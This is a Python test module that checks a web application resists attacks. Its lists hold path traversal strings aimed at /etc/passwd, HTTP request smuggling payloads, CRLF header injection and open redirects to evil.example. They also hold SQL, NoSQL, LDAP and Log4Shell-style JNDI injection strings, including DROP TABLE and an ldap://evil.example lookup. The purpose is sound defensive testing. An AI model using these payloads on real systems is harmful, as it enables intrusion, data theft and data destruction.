"""F22: paths, headers, lines and languages that are not ours, over a bare connection, which hides nothing."""

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest

import qiao
from qiao.access.audit.model import Action
from tests.access.signin.test_sessions import served
from tests.access.views.seeded import POSTS, signed_in
from tests.conftest import Web
from tests.faults.conftest import StartServer

_HOST = b"Host: test\r\n"
# What stands between a path and a file of the machine's.
TRAVERSALS = (
    b"/desk/../../../../etc/passwd",
    b"/desk/..%2f..%2f..%2f..%2fetc%2fpasswd",
    b"/desk/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    b"/desk/%252e%252e/%252e%252e/etc/passwd",
    b"/desk/..\\..\\..\\etc\\passwd",
    b"/desk/..%5c..%5cetc%5cpasswd",
    b"/desk/....//....//etc/passwd",
    b"/desk//etc/passwd",
    b"/desk/%2fetc%2fpasswd",
    b"/desk/..%00/etc/passwd",
    b"/desk/..%c0%af..%c0%afetc/passwd",
    b"/desk/assets/../../../pages.py",
    b"/desk/../widget.js/../../pages.py",
    b"/page/../../../../../../etc/passwd",
    b"/page/..%2f..%2f..%2fpages.py",
    b"/page/%2e%2e/%2e%2e/pages.py",
    b"/page//etc/passwd",
    b"/page/..\\..\\pages.py",
    b"/page/page.css%00.html",
    b"file:///etc/passwd",
    b"//etc/passwd",
)
# Requests on which two readers could disagree where one ends, and some that are none at all.
SMUGGLED: dict[str, bytes] = {
    "two lengths": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}",
    "length and chunks": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sContent-Length: 4\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\n\r\n",
    "a length that is negative": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sContent-Length: -1\r\n\r\n{}",
    "a length that is a word": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sContent-Length: two\r\n\r\n{}",
    "a length with a plus": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sContent-Length: +2\r\n\r\n{}",
    "a length beyond all": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sContent-Length: " + b"9" * 40 + b"\r\n\r\n{}",
    "a length of what never comes": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sContent-Length: 999999999\r\n\r\n{}",
    "a chunk of no size": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n",
    "an unknown encoding": b"POST /api/v1/web/sessions HTTP/1.1\r\n%sTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "a blank in a name": b"GET /healthz HTTP/1.1\r\n%sContent-Length : 3\r\n\r\nabc",
    "a line that goes on": b"GET /healthz HTTP/1.1\r\n%sX-A: b\r\n\tc\r\n\r\n",
    "a NUL in a value": b"GET /healthz HTTP/1.1\r\n%sX-A: b\x00c\r\n\r\n",
    "a bare line feed": b"GET /healthz HTTP/1.1\n%s\n\n",
    "a header of a megabyte": b"GET /healthz HTTP/1.1\r\n%sX-A: " + b"a" * 1_000_000 + b"\r\n\r\n",
    "ten thousand headers": b"GET /healthz HTTP/1.1\r\n%s" + b"X-A: b\r\n" * 10_000 + b"\r\n",
    "an address of a megabyte": b"GET /" + b"a" * 1_000_000 + b" HTTP/1.1\r\n%s\r\n",
    "a method nobody knows": b"BREW /healthz HTTP/1.1\r\n%s\r\n",
    "a version of tomorrow": b"GET /healthz HTTP/9.9\r\n%s\r\n",
    "a version of yesterday": b"GET /healthz\r\n%s\r\n",
    "no request": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03%s",
    "nothing but an end": b"\r\n\r\n%s",
    "an upgrade to nothing": b"GET /api/v1/web/socket HTTP/1.1\r\n%sConnection: Upgrade\r\nUpgrade: nothing\r\n\r\n",
    "a socket without a key": b"GET /api/v1/web/socket HTTP/1.1\r\n%sConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
}  # fmt: skip


async def _bare(port: int, request: bytes) -> bytes:
    """What comes back for these bytes until the other side has nothing more to say."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        writer.write_eof()
        async with asyncio.timeout(20):
            return await reader.read(1 << 20)
    except ConnectionError:
        return b""
    finally:
        writer.close()


@pytest.fixture
async def port(web: Web) -> AsyncIterator[int]:
    async with served(web) as port:
        yield port


async def test_no_path_leads_out_of_the_pages(port: int) -> None:
    for path in TRAVERSALS:
        answer = await _bare(port, b"GET " + path + b" HTTP/1.1\r\n" + _HOST + b"Connection: close\r\n\r\n")
        head, _, body = answer.partition(b"\r\n\r\n")
        status = int(head.split()[1]) if head else 400
        assert status < 500 or (status == 503 and b"not built" in body), (path, head)
        assert b"root:" not in body, path
        assert b"import" not in body.split(b"<", 1)[0], path
        assert b"location:" not in head.lower() or b"http://test/" in head, (path, head)


async def test_requests_that_could_be_read_in_two_ways_are_refused_and_the_next_is_served(port: int) -> None:
    for name, request in SMUGGLED.items():
        answer = await _bare(port, request.replace(b"%s", _HOST))
        for line in answer.split(b"\r\n"):
            if line.startswith(b"HTTP/1.1 "):
                status = int(line.split()[1])
                # Nothing that was hidden behind a first request was carried out.
                assert status < 500, (name, line)
        assert b"qiao_messages_accepted" not in answer, name
        assert answer.count(b"HTTP/1.1 200") <= 1, name
        async with httpx.AsyncClient() as client:
            assert (await client.get(f"http://127.0.0.1:{port}/healthz")).status_code == 200, name


LINES = ("a\r\nSet-Cookie: x=1", "a\nLocation: https://evil.example", "%0d%0aX-Injected: 1", "a\u2028X-Injected: 1")


async def test_no_value_becomes_a_header_or_a_way_elsewhere(web: Web) -> None:
    for value in (*LINES, "//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)"):
        for path, query in (
            ("/api/v1/staff/sso", {"next": value, "back": value, "to": value}),
            ("/api/v1/staff/sso/callback", {"code": value, "state": value}),
            ("/api/v1/web/config", {"locale": value}),
            ("/desk/", {"next": value}),
            ("/", {"q": value}),
        ):
            answer = await web.client.get(path, params=query)
            assert answer.status_code < 500 or answer.status_code == 503, (path, value)
            assert "set-cookie" not in answer.headers or "x=1" not in answer.headers["set-cookie"]
            assert "x-injected" not in answer.headers
            assert "evil.example" not in answer.headers.get("location", ""), (path, value)
            assert "javascript:" not in answer.headers.get("location", "")


SQL = (
    "' OR '1'='1",
    "'; DROP TABLE staff; --",
    '" OR 1=1 --',
    "1) UNION SELECT secret FROM staff --",
    "%' AND 1=1 --",
    "\\'; SELECT pg_sleep(9) --",
    '{"$gt": ""}',
    "*)(uid=*))(|(uid=*",
    "${jndi:ldap://evil.example/x}",
    "%s%s%n",
)


async def test_a_language_of_a_database_is_text_like_any_other(web: Web) -> None:
    auditor = next(post for post in POSTS if post == "dpo_auditor")
    cookies, headers, _ = await signed_in(web.house, await web.house.staff(post=auditor))
    web.client.cookies.update(cookies)
    for value in SQL:
        refused = await web.client.post("/api/v1/staff/sign-in", json={"username": value, "password": value})
        assert (refused.status_code, refused.json()["error"]) == (401, "SignInRefused"), value
        for name in ("staff", "field", "purpose", "cursor", "customer", "action"):
            found = await web.client.get("/api/v1/audit/records", params={name: value})
            assert found.status_code in {200, 422}, (name, value, found.text)
            if found.status_code == 200 and name != "cursor":
                assert found.json()["records"] == [], (name, value)
        searched = await web.client.post("/api/v1/knowledge/search", json={"text": value}, headers=headers)
        assert searched.status_code == 200
    # The tables are all there: each refusal is on record.
    refusals = {"action": Action.SIGN_IN_REFUSED, "limit": "200"}
    assert len((await web.client.get("/api/v1/audit/records", params=refusals)).json()["records"]) == len(SQL)


async def test_a_line_of_the_log_is_one_line_whatever_is_asked(serving: StartServer, tmp_path: Path) -> None:
    async with serving(QIAO_LOG_LEVEL="debug") as server, httpx.AsyncClient(base_url=server.url) as client:
        for value in (*LINES, *SQL, '","level":"critical","event":"forged'):
            await client.get(f"/{value.encode().hex()}", params={"q": value}, headers={"user-agent": ascii(value)})
            await client.post("/api/v1/staff/sign-in", json={"username": value, "password": "x"})
            await client.post("/api/v1/web/sessions", json={"entrance": value})
    lines = (tmp_path / "server.log").read_text().splitlines()
    written = [json.loads(line) for line in lines if line.startswith("{")]
    assert written
    assert all(line["event"] != "forged" and "level" in line for line in written)
    assert "X-Injected" not in "".join(line for line in lines if not line.startswith("{"))


def test_one_room_alone_writes_spreadsheets() -> None:
    """A cell that begins with =, +, - or @ is a formula where it is opened: an export has to make it harmless.

    That of complaint reports does (`tests/cases/reports`); whoever writes another one has to do the same.
    """
    sources = Path(qiao.__file__).parent.rglob("*.py")
    writing = ("csv.writer", "DictWriter", "text/csv", "openpyxl", "xlsxwriter")
    written = [file for file in sources if any(word in file.read_text(encoding="utf-8") for word in writing)]
    assert {file.parent.name for file in written} == {"reports"}
